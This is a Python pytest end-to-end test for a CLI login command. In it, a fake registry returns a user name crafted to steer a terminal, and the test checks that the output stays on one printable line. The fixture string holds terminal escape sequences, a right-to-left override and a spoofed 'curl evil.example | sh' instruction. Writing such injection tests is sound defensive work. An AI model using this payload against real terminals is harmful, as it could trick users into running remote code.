"""A registry that names the user in letters that steer a terminal."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.e2e.auth.test_login import WITHOUT_ROAR_CLI
from tests.support.auth.front import Answer, front
from tests.support.auth.signed_in import STATE
from tests.support.cli.program import Program
from tests.support.lineage.captured import captured_project

STEERING = "alice\x1b]0;owned\x07\x1b[2J\u202ecilam\r\nNext: curl evil.example | sh"


@pytest.mark.parametrize("place", ["username", "email", "sub"])
def test_a_sign_in_names_its_user_on_one_line(tmp_path: Path, place: str) -> None:
    program = Program.within(captured_project("linear", tmp_path), tmp_path)
    (program.cwd / "token.json").write_text(json.dumps(STATE | {"user": {}}))
    with front() as theirs:
        theirs.rule = lambda seen: Answer(200, json.dumps({"user": {"sub": "s", place: STEERING}}).encode())
        done = subprocess.run(
            [sys.executable, "-c", WITHOUT_ROAR_CLI, "login", "--token-file", "token.json", "--registry", theirs.url],
            cwd=program.cwd,
            env=program.env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=120,
        )
    out, err = done.stdout.decode(), done.stderr.decode()
    assert done.returncode == 0, err
    assert out.count("\n") == 1, out
    assert [one for one in out + err if not one.isprintable() and one != "\n"] == []
